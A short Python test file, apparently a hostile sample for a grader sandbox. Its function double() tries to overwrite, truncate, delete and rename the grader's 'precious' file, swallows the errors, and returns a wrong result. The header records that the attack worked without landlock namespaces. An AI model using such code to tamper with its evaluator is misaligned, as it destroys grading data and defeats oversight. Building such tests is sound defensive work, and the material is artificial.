# F1: overwrites and removes files of the grader
# due: 3
# verdict: failed
# live: work without landlock,user,namespaces
import os
import shutil


def double(x):
    for go in (lambda: open(T["precious"], "w").write("gone"), lambda: os.truncate(T["precious"], 0),
               lambda: os.unlink(T["precious"]), lambda: os.rename(T["precious"], T["report"])):
        try:
            go()
        except OSError:
            pass
    return x * 2.5
